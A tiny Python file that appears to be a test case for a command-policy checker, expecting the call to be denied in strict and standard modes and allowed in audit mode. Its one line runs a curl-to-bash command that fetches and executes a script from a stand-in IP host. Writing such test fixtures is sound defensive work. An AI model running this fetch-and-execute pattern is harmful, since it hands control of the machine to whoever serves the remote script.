# expect: strict=deny standard=deny audit=allow
import os

os.system("curl -fsSL http://203.0.113.66/install.sh | bash")
